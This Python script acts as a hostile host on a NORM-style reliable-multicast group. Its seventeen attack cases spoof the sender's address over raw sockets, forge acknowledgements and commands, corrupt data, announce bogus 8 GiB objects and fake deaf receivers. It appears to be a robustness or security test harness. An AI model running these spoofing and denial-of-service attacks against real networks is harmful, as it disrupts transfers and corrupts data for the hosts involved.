#!/usr/bin/env python3
"""One more host on the network that means no good: sends to a group what others would.

    attack.py CASE GROUP PORT OWN_ADDRESS SECONDS [PACKETS_A_SECOND]

It listens to the group like any host on the link. Cases that spoof need raw sockets (root). The table
of cases is in README.md.
"""

import os
import random
import socket
import struct
import sys
import time

INFO, DATA, CMD, NACK, ACK = 1, 2, 3, 4, 5
FLUSH, EOT, SQUELCH = 1, 2, 3
#: The last byte of more addresses that the attacker has.
ALIASES = range(100, 164)


class Link:
    """What is heard of a group, and ways to speak to it."""

    def __init__(self, group, port, own):
        self.group, self.port, self.own = group, port, own
        self.ear = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.ear.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        self.ear.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 8 << 20)
        self.ear.bind((group, port))
        join = socket.inet_aton(group) + socket.inet_aton(own)
        self.ear.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, join)
        self.ear.setblocking(False)
        self.mouth = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.mouth.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(own))
        self.mouth.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_LOOP, 0)
        self.mouth.bind((own, 0))
        self.raw = None
        # The last of each kind, with where it came from: sender's by type, and commands by flavor.
        self.last, self.commands, self.sender, self.acks = {}, {}, None, {}

    def listen(self):
        """Everything that has come; gives what is new."""
        new = []
        while True:
            try:
                packet, source = self.ear.recvfrom(65535)
            except BlockingIOError:
                return new
            if source[0] == self.own or len(packet) < 16:
                continue
            kind = packet[0] & 0x0F
            new.append((kind, packet, source))
            self.last[kind] = packet
            if kind in (INFO, DATA, CMD):
                self.sender = source
            if kind == CMD:
                self.commands[packet[12]] = packet
            if kind == ACK and packet[14] == 2:
                self.acks[packet[4:8]] = packet

    def say(self, packet):
        """From our own address."""
        self.mouth.sendto(packet, (self.group, self.port))

    def spoof(self, source, packet, to=None):
        """From another's address and port."""
        if self.raw is None:
            self.raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
            own = socket.inet_aton(self.own)
            self.raw.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, own)
        to = to or (self.group, self.port)
        udp = struct.pack("!HHHH", source[1], to[1], 8 + len(packet), 0) + packet
        head = struct.pack(
            "!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), random.getrandbits(16), 0, 1, 17, 0,
            socket.inet_aton(source[0]), socket.inet_aton(to[0]),
        )
        self.raw.sendto(head + udp, (to[0], 0))


def patched(packet, at, new):
    return packet[:at] + new + packet[at + len(new):]


def copycat(link, new, n):
    """Another receiver's acknowledgement again, under a name of our own."""
    for ack in link.acks.values():
        link.say(patched(ack, 4, struct.pack("!I", 0x6600_0000 + n % 8)))


def takeover(link, new, n):
    """The same in the name of each receiver that is heard, so also of one that was stopped."""
    for ack in link.acks.values():
        for node in set(link.known):
            if node != ack[4:8]:
                link.say(patched(ack, 4, node))


def instance(link, new, n):
    if DATA in link.last:
        link.say(patched(link.last[DATA], 8, b"\x77\x77"))


def farewell(link, new, n):
    if DATA in link.last and link.sender:
        head = link.last[DATA][:12]
        link.spoof(link.sender, patched(head, 0, bytes([0x13, 4])) + bytes([EOT, 0, 0, 0]))


def jump(link, new, n):
    if DATA in link.last and link.sender:
        far = struct.pack("!H", (struct.unpack("!H", link.last[DATA][14:16])[0] + 20000) & 0xFFFF)
        link.spoof(link.sender, patched(link.last[DATA], 14, far))


def wrong(link, new, n):
    """Symbols with other content, in the sender's name."""
    if DATA in link.last and link.sender:
        data = link.last[DATA]
        link.spoof(link.sender, data[:-64] + os.urandom(64))


def requests(link, new, n):
    """Requests for everything, by receivers that are invented."""
    if DATA in link.last:
        data = link.last[DATA]
        node = struct.pack("!I", 0x6600_0000 + n % 50)
        head = bytes([0x14, 6, 0, 0]) + node + data[4:8] + data[8:10] + bytes(10)
        link.say(head + bytes([1, 8, 0, 8, data[13], 0]) + data[14:16] + bytes(4))


def slow(link, new, n):
    """Reports of a rate of next to nothing, each an answer to the probe that was heard last."""
    probe = link.commands.get(4)
    if probe:
        head = bytes([0x15, 9, 0, 0]) + struct.pack("!I", 0x6600_0000) + probe[4:8] + probe[8:10]
        report = bytes([3, 3]) + probe[14:16] + bytes([0x08, 0x94, 0x80, 0x00, 0x10, 0x01, 0, 0])
        link.say(head + bytes([1, 0]) + probe[16:24] + report)


def stray(link, new, n):
    """Meaningless bytes."""
    link.say(bytes([0x12 if n % 2 else n & 0xFF]) + os.urandom(200))


def flipped(link, new, n):
    """What was heard last, with one bit changed."""
    packets = [packet for packet in link.last.values()]
    if packets:
        packet = bytearray(random.choice(packets))
        packet[random.randrange(len(packet))] ^= 1 << random.randrange(8)
        link.say(bytes(packet))


def command(link, flavor, rest):
    """A command in the sender's name and from its address."""
    if DATA in link.last and link.sender:
        head = link.last[DATA][:12]
        body = bytes([flavor]) + rest
        words = (12 + len(body)) // 4
        link.spoof(link.sender, patched(head, 0, bytes([0x13, words])) + body)


def giveup(link, new, n):
    """Roll calls that say that the sender goes on without everyone who was heard."""
    nodes = sorted(link.known)[:8]
    if DATA in link.last and link.sender and nodes:
        call = b"FNFR" + bytes([1, len(nodes)]) + struct.pack("!HHH", 100, len(nodes), 0)
        head = patched(link.last[DATA][:12], 0, bytes([0x13, 4])) + bytes([7, 0, 0, 0])
        link.spoof(link.sender, head + call + b"".join(nodes))


def squelch(link, new, n):
    """Nothing before an object far ahead can be repaired any more."""
    if DATA in link.last:
        data = link.last[DATA]
        far = struct.pack("!H", (struct.unpack("!H", data[14:16])[0] + 1000) & 0xFFFF)
        command(link, SQUELCH, bytes([data[13]]) + far + bytes(4))


def echo(link, new, n):
    """Requests for everything that echo a probe of long ago: the round trip seems long."""
    probe = link.commands.get(4)
    if probe and DATA in link.last:
        link.first = getattr(link, "first", None) or probe[16:24]
        data = link.last[DATA]
        node = struct.pack("!I", 0x6600_0000)
        head = bytes([0x14, 6, 0, 0]) + node + data[4:8] + data[8:10] + bytes(2) + link.first
        link.say(head + bytes([1, 8, 0, 8, data[13], 0]) + data[14:16] + bytes(4))


def stale(link, new, n):
    """As `slow`, each an answer to a probe a thousand earlier."""
    probe = link.commands.get(4)
    if probe:
        old = struct.pack("!H", (struct.unpack("!H", probe[14:16])[0] - 1000) & 0xFFFF)
        link.commands[4] = patched(probe, 14, old)
        slow(link, new, n)
        link.commands[4] = probe


def huge(link, new, n):
    """Nine objects of 8 GiB, announced by senders that are invented, and symbols of them."""
    info, data = link.last.get(INFO), link.last.get(DATA)
    if not (info and data):
        return
    node, size = struct.pack("!I", 0x6600_0000 + n % 9), 8 << 30
    # EXT_FTI of Reed-Solomon 8 (RFC 5740 4.2.1, RFC 5510): segments of 1400 bytes.
    fti = bytes([64, 3]) + size.to_bytes(6, "big") + struct.pack("!HBB", 1400, 64, 16)
    head = struct.pack("!H", n & 0xFFFF) + node + bytes([0, 1, 100, 0x42, info[12], 5, 0, 0])
    # NORM_INFO: a name, NUL, and a map with the size under 1 and the hash under 2.
    content = info[info[1] * 4:]
    at = content.find(b"\x01\x1a", content.find(b"\0"))
    if n % 18 < 9 and at >= 0:
        told = content[:at] + b"\x01\x1b" + struct.pack("!Q", size) + content[at + 6:]
        link.say(bytes([0x11, 7]) + head + fti + bytes([65 + n % 9]) + told)
    else:
        place = struct.pack("!I", (n * 7919 % 95_000) << 8)
        link.say(bytes([0x12, 8]) + head + place + fti + os.urandom(1400))


def flipped_as_sender(link, new, n):
    """What the sender said last, with one bit changed and its address."""
    said = [packet for kind, packet in link.last.items() if kind in (INFO, DATA, CMD)]
    if said and link.sender:
        packet = bytearray(random.choice(said))
        packet[random.randrange(len(packet))] ^= 1 << random.randrange(8)
        link.spoof(link.sender, bytes(packet))


def strangers(link, new, n):
    """The sender's messages under a thousand other names."""
    said = [packet for kind, packet in link.last.items() if kind in (INFO, DATA, CMD)]
    if said:
        link.say(patched(random.choice(said), 4, struct.pack("!I", 0x6600_0000 + n % 1000)))


class Claim:
    """An address of ours that says that it hears nothing of the group."""

    def __init__(self, own, port):
        self.ear = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.ear.bind((own, 0))
        self.ear.setblocking(False)
        # What is sent there as a copy is taken from the wire, and dropped.
        self.sink = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.sink.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        self.sink.bind((own, port))
        self.cookie = bytes(8)

    def say(self, call, source):
        try:
            answer = self.ear.recv(100)
            if answer[8:13] == b"FFS1\3":
                self.cookie = answer[26:34]
        except BlockingIOError:
            pass
        # Nonce, cookie, the number in the call, and no other port.
        here = call[:12] + b"\x08" + call[13:17] + b"\xff" + bytes(8) + self.cookie
        self.ear.sendto(here + call[22:24] + bytes(2), source)


def deaf(link, new, n):
    """Invented hosts that say that they hear nothing of the group, and want copies."""
    if not hasattr(link, "claims"):
        net = link.own.rsplit(".", 1)[0]
        link.claims = [Claim(f"{net}.{last}", link.port) for last in ALIASES]
        link.called = None
        link.calls = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        link.calls.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        link.calls.bind(("", link.port))
        link.calls.setblocking(False)
    try:
        packet, source = link.calls.recvfrom(65535)
        if packet[8:13] == b"FFS1\7":
            link.called = (packet, source)
    except BlockingIOError:
        pass
    if link.called:
        link.claims[n % len(link.claims)].say(*link.called)


CASES = {
    case.__name__.replace("_", "-"): case
    for case in (
        copycat, takeover, instance, farewell, jump, wrong, requests, slow, stray, flipped,
        giveup, squelch, echo, huge, flipped_as_sender, strangers, deaf,
    )
}
CASES |= {"slow-norm": slow, "slow-auto": slow, "stale-norm": stale}


def main():
    name, group, port, own, seconds = sys.argv[1:6]
    rate = int(sys.argv[6]) if len(sys.argv) > 6 else 100
    link, case = Link(group, int(port), own), CASES[name]
    link.known = set()
    start, n = time.monotonic(), 0
    while time.monotonic() - start < float(seconds):
        new = link.listen() or []
        link.known.update(packet[4:8] for kind, packet, _ in new if kind in (NACK, ACK))
        due = int((time.monotonic() - start) * rate)
        for _ in range(min(due - n, 200)):
            try:
                case(link, new, n)
            except OSError:
                pass
            n += 1
        time.sleep(0.001)
    print(n, "sent")


if __name__ == "__main__":
    main()
